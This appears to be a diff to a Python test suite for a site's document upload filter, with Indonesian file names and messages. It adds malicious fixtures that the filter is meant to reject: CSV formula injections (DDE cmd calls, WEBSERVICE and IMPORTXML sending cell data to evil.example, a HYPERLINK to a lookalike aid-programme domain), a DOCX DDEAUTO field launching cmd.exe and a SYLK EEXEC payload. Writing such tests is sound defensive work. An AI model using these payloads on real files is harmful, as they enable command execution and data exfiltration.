@@ -237,6 +237,7 @@ OBJECT_INSIDE_ATOM = struct.pack("<HHI", 0x0000, 0x0FA0, 64) + b"\0" * 8 + ppt_s
 DOCUMENTS.update({
     "dokumen/notulen-rusak.docx": deflate_damaged({"[Content_Types].xml": "<Types/>" * 50, "word/document.xml": "<w/>"}),
     "dokumen/rekap-desa.csv": b"desa,nilai\nKarangsari,=1+cmd|' /C calc'!A0\n",
+    "dokumen/daftar-bansos.csv": b'desa,formulir\nKarangsari,"=HYPERLINK(""https://bansos-sukamaju.example"",""Isi data"")"\n',
     "dokumen/nota-kegiatan.docx": ooxml({"word/document.xml": f"<w:document {W_MAIN}><w:body><w:p><w:fldSimple "
                                          "w:instr = ' DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;'/>"
                                          "</w:p></w:body></w:document>"}),
@@ -688,7 +689,7 @@ def test_office_97_files_and_embedded_objects_without_macros_are_published(site)
         "paparan.ppt": ole_file({"PowerPoint Document": ppt_stream(ole_file({"Workbook": biff_workbook(("Data", 0))})),
                                  "Current User": b"\0" * 20}),
         "undangan.doc": ole_file({**WORD_97, "WordDocument": word_stream(b"Halaman \x13 PAGE \x14 1\x15 dari 3")}),
-        "rekap.csv": "nama,selisih,catatan\nBudi,-12,naik|turun\nSiti,+5,\"=rata-rata\"\n".encode(),
+        "rekap.csv": "nama,selisih,catatan\nBudi,-12,naik|turun\nSiti,+5,\"=rata-rata\"\nAni,0,- pagi | sore\n".encode(),
         "nota.docx": ooxml({"word/document.xml": "<w:document><w:r><w:instrText> PA</w:instrText></w:r>"
                                                  "<w:r><w:instrText>GE </w:instrText></w:r></w:document>"}),
         "tabel.docx": ooxml({"word/embeddings/Microsoft_Excel_Worksheet1.xlsx": zip_bytes(
@@ -786,6 +787,9 @@ def split_sst(*strings: str) -> bytes:
     ("paket-nama-xml.docx", ooxml({"word/media/image1.xml": ole_file({"\x01Ole10Native": b"MZ\x90\x00"})}), "paket"),
     ("webservice.csv", b'kode,nilai\n1,=WEBSERVICE("https://evil.example/?"&A1)\n', "memuat alamat lain"),
     ("dde-fungsi.csv", b'kode;nilai\n1;=DDE("cmd";"/c calc";"x")\n', "memuat alamat lain"),
+    ("tautan.csv", b'kode,nilai\n1,"=HYPERLINK(""https://bansos-sukamaju.example/daftar"",""Daftar bansos"")"\n',
+     "membuat tautan"),
+    ("impor.csv", b'kode,nilai\n1,=IMPORTXML("https://evil.example/?"&A1;"//a")\n', "memuat alamat lain"),
     ("sylk-bom.csv", b"\xef\xbb\xbfID;P\nC;X1;Y1;EEXEC(\"calc\")\nE\n", "isinya bukan berkas CSV"),
     ("berputar.doc", looping_chain(), "rusak atau tidak dapat dibaca"),
     ("bersarang.docx", nested_docx(6), "bersarang terlalu dalam"),
